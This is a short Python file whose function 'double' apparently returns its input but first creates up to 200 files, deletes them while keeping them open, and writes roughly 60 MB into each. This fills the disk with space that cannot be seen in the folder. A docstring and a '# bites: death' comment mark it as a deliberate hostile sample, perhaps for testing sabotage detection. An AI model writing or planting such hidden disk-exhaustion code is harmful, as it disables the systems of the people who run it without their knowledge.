"""Fills the disk with files that it has removed and keeps open, which nobody finds by looking into the folder."""
# bites: death
import os
import time


def double(x):
    kept = []
    for number in range(200):
        try:
            file = os.open(f"hostile_hidden_{number}", os.O_RDWR | os.O_CREAT)
            os.unlink(f"hostile_hidden_{number}")
            kept.append(file)
            for _ in range(60):
                os.write(file, bytes(1 << 20))
        except OSError:
            break
    time.sleep(5)
    return x
